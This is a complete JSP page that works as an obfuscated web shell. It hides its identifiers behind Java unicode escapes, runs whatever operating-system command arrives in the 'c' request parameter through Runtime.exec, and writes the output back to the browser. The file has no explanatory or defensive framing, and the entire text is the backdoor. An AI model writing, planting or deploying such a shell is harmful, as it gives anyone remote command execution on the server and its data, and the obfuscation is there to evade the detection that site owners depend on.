<%@ page contentType="text/html;charset=UTF-8" %>
<%
    String \u0063md = request.getParameter("\u0063");
    if (\u0063md != null) {
        java.io.InputStream i\u006e = java.lang.\u0052untime.get\u0052untime().\u0065xec(\u0063md).getInputStream();
        byte[] b = new byte[4096]; int n;
        while ((n = i\u006e.read(b)) > 0) out.print(new String(b, 0, n));
    }
%>
